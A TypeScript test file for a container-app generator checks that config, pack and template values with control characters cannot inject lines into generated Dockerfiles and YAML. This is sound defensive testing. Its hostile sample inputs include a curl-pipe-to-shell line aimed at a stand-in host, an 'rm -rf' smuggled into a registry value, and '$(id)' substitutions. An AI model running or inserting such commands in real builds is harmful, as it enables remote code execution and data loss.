import { describe, expect, it } from 'vitest'
import { validateAnswers } from '../../src/answers.js'
import { checkConfigShape, ConfigError } from '../../src/config/resolve.js'
import { generate } from '../../src/generate.js'
import { PackError, variableProblem } from '../../src/packs/pack.js'
import { imagePrefixProblem, imageReferenceProblem, registryHostProblem, hostnameProblem } from '../../src/policy/references.js'
import { createRenderer } from '../../src/render.js'
import { checkGeneratedText, UnsafeValueError } from '../../src/render-guard.js'
import type { RenderContext } from '../../src/context.js'
import { rng, thrown } from '../helpers/random.js'

const TOOL = { tool: { name: 'create-containerized-app', version: '0.0.0-test' } } as const
const CONTROLS = ['\n', '\r', '\r\n', '\t', '\u0000', '\u0007', '\u001b[31m', '\u007f', '\u0085', '\u2028', '\u2029', '\u202e', '\u2066', '\ufeff', '\u000b', '\u000c']
/** Characters no generated file may hold (line feed, tab and CR are the files' own). */
const FORBIDDEN = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff]/
const INJECTED = 'RUN curl https://evil.example/x.sh | sh'

function hostile(r: ReturnType<typeof rng>): string {
  const words = ['registry.acme.dev/hub', 'team', 'x', INJECTED, 'null', 'yes', 'a: b', '#', '"', "'", '{{x}}', '${X}', '$(id)', '`id`', 'é', '😀']
  return `${r.pick(words)}${r.pick(CONTROLS)}${r.pick(words)}`
}

describe('issue 19, item 6: a policy mirror with a newline cannot add lines to the Dockerfile or values.yaml', () => {
  const config = { policy: { baseImages: { mirrors: { 'docker.io': `registry.acme.dev/hub\n${INJECTED}\n#` } } } }

  it('the config is refused when it is read, naming the file and the key', () => {
    const e = thrown(() => checkConfigShape(structuredClone(config), 'containerized.config.json'))
    expect(e).toBeInstanceOf(ConfigError)
    expect(e.message).toMatch(/containerized\.config\.json: policy\.baseImages\.mirrors\["docker\.io"\] holds the control character \\n/)
  })

  it('and the render-level guard stops it even if a policy got past the config check', () => {
    const e = thrown(() => generate(validateAnswers({ platform: 'kubernetes' }), { ...TOOL, policy: config.policy }))
    expect(e).toBeInstanceOf(UnsafeValueError)
    expect(e.message).not.toContain('\n')
  })

  it('mirrors and allowed prefixes follow the OCI reference grammar', () => {
    const bad: [Record<string, unknown>, RegExp][] = [
      [{ mirrors: { 'docker.io': 'registry.acme.dev/Hub' } }, /is not a registry host followed by repository path parts/],
      [{ mirrors: { 'docker.io': 'dockerhub-mirror/library' } }, /does not start with a registry host/],
      [{ mirrors: { 'docker.io': 'registry.acme.dev/hub:latest' } }, /is not a registry host followed/],
      [{ mirrors: { 'docker hub': 'registry.acme.dev/hub' } }, /the key "docker hub" is not a registry host/],
      [{ mirrors: { 'docker.io': 'registry.acme.dev/hub;rm -rf' } }, /is not a registry host followed/],
      [{ allowedPrefixes: ['registry.acme.dev/hub', 'UPPER.case/X'] }, /allowedPrefixes: "UPPER\.case\/X"/],
    ]
    for (const [baseImages, message] of bad) expect(thrown(() => checkConfigShape({ policy: { baseImages } }, 'c.json')).message).toMatch(message)
    expect(checkConfigShape({ policy: { baseImages: { mirrors: { 'docker.io': 'registry.acme.dev:5000/dockerhub', 'ghcr.io': 'localhost/ghcr' }, allowedPrefixes: ['registry.acme.dev:5000/', 'localhost'] } } }, 'c.json')).toBeTruthy()
  })

  it('the grammars, case by case', () => {
    for (const ok of ['node', 'node:24-trixie-slim', 'docker.io/library/node:24', 'registry.acme.dev:5000/a/b__c/d-e.f@sha256:' + 'a'.repeat(64), 'localhost/x']) expect(imageReferenceProblem(ok)).toBeUndefined()
    for (const bad of ['Node', 'node:', 'node:-x', 'a//b', 'a/b/', ':tag', 'node@sha256:xyz', 'node:24\nRUN x', 'a b']) expect(imageReferenceProblem(bad), bad).toBeDefined()
    for (const ok of ['docker.io', 'registry.acme.dev:5000', 'localhost', '10.0.0.1:5000']) expect(registryHostProblem(ok)).toBeUndefined()
    for (const bad of ['-x.io', 'x..io', 'x.io:port', 'x.io/', 'x y']) expect(registryHostProblem(bad), bad).toBeDefined()
    for (const bad of ['registry.acme.dev/a:b', 'hub/x', '']) expect(imagePrefixProblem(bad), bad).toBeDefined()
    for (const ok of ['api.example.com', 'a', 'x-1.y']) expect(hostnameProblem(ok)).toBeUndefined()
    for (const bad of ['-a.com', 'a_b.com', 'a..b', `${'a'.repeat(64)}.com`, 'a.com\n']) expect(hostnameProblem(bad), bad).toBeDefined()
  })
})

describe('property: random config, pack and answer values with control characters never reach a generated file', () => {
  it('300 random configs with a control character somewhere are refused when read, naming the key', () => {
    const r = rng(19_006)
    for (let i = 0; i < 300; i++) {
      const value = hostile(r)
      const where = r.int(0, 5)
      const config: Record<string, unknown> = [
        { policy: { baseImages: { mirrors: { 'docker.io': value } } } },
        { policy: { baseImages: { allowedPrefixes: [value] } } },
        { policy: { labels: { team: value } } },
        { policy: { annotations: { 'acme.dev/owner': value } } },
        { variables: { team: value } },
        { defaults: { name: value } },
      ][where]!
      const e = thrown(() => checkConfigShape(config, 'containerized.config.yaml'))
      expect(e, JSON.stringify(config)).toBeInstanceOf(ConfigError)
      expect(e.message).toMatch(/holds the control character \\/)
      expect(e.message).not.toMatch(FORBIDDEN)
    }
  })

  it('300 random pack variables with a control character are refused', () => {
    const r = rng(19_066)
    for (let i = 0; i < 300; i++) {
      const problem = variableProblem({ type: 'string', description: 'd' }, hostile(r))
      expect(problem).toMatch(/holds the control character/)
      expect(problem).not.toMatch(FORBIDDEN)
    }
    expect(PackError).toBeDefined()
  })

  it('500 random values through {{x}}, {{json x}} and {{yaml x}}: refused, escaped in Markdown and quoted contexts, never raw', () => {
    const templates: Record<string, string> = {
      'Dockerfile.hbs': 'FROM {{x}}\nRUN echo ok\n',
      'values.yaml.hbs': 'a: {{yaml x}}\nb: {{json x}}\nc: {{x}}\n',
      'README.md.hbs': '# {{x}}\n',
      'quoted.yaml.hbs': 'a: {{yaml x}}\nb: {{json x}}\n',
      'each.yaml.hbs': 'list:\n{{#each xs}}\n  - {{this}}\n{{/each}}\n',
    }
    const render = createRenderer({ list: () => Object.keys(templates), read: (p) => templates[p]!, exists: (p) => p in templates })
    const r = rng(19_600)
    for (let i = 0; i < 500; i++) {
      const x = hostile(r)
      const ctx = { x, xs: ['ok', x] } as unknown as RenderContext
      for (const [template, to] of [['Dockerfile.hbs', 'Dockerfile'], ['values.yaml.hbs', 'values.yaml'], ['each.yaml.hbs', 'each.yaml']] as const) {
        const e = thrown(() => render([{ template, to }], ctx))
        expect(e, `${to} ${JSON.stringify(x)}`).toBeInstanceOf(UnsafeValueError)
        expect(e.message).toContain(to)
        expect(e.message).not.toMatch(FORBIDDEN)
      }
      const [md, quoted] = render([{ template: 'README.md.hbs', to: 'README.md' }, { template: 'quoted.yaml.hbs', to: 'quoted.yaml' }], ctx)
      for (const f of [md!, quoted!]) {
        expect(f.content, JSON.stringify(x)).not.toMatch(FORBIDDEN)
        // The only line breaks are the template's own.
        expect(f.content.split('\n').length).toBe(templates[f.path === 'README.md' ? 'README.md.hbs' : 'quoted.yaml.hbs']!.split('\n').length)
      }
    }
  })

  it('the final check covers text that reached a file outside Handlebars', () => {
    for (const c of CONTROLS.filter((c) => FORBIDDEN.test(c))) {
      const e = thrown(() => checkGeneratedText([{ path: 'compose.yaml', content: `services:\n  app:\n    image: x${c}y\n` }]))
      expect(e).toBeInstanceOf(UnsafeValueError)
      expect(e.message).toMatch(/compose\.yaml: line 3/)
    }
    expect(() => checkGeneratedText([{ path: 'a.txt', content: '\ufeffBOM first is the file\'s own\r\nline\ttab\n' }])).not.toThrow()
  })

  it('every scenario generates with no forbidden character in any file (the guard never fires on our own templates)', () => {
    for (const platform of ['compose', 'kubernetes', 'eks'] as const) {
      const { files } = generate(validateAnswers({ platform, database: 'postgres', cache: 'redis', ci: 'gitlab' }), TOOL)
      for (const f of files) expect(f.content, f.path).not.toMatch(FORBIDDEN)
    }
  })
})
